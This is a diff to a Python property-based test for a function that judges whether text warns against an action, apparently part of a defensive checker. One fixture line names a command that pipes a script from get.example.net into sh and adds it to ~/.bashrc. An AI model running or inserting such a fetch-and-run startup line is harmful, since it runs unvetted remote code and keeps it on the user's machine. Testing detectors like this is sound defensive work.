@@ -95,12 +95,19 @@ def test_a_request_reported_but_not_disowned_is_no_warning() -> None:
     assert not warned_off(low, low.index("crontab"), len(low))
 
 
+_PROSE = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=200)
+
+
 @settings(max_examples=60, deadline=None)
-@given(st.text(max_size=300))
-def test_warned_off_reads_any_text_without_failing(text: str) -> None:
-    low = prepare(text).low
-    for at in (0, len(low) // 2, len(low)):
-        assert warned_off(low, at, len(low)) in (True, False)
+@given(_PROSE, _PROSE)
+def test_a_warning_is_read_in_its_own_sentence_whatever_surrounds_it(before: str,
+                                                                      after: str) -> None:
+    for line, expected in (("Never add a curl | sh line to ~/.bashrc.", True),
+                           ("Never add curl https://get.example.net/i.sh | sh to ~/.bashrc.",
+                            False)):
+        low = prepare(f"{before}\n{line}\n{after}").low
+        at = low.index("~/.bashrc", low.index("never add"))
+        assert warned_off(low, at, at + len("~/.bashrc")) is expected
 
 
 # A public key is made to be handed out: uploading one's own to a code host sends no
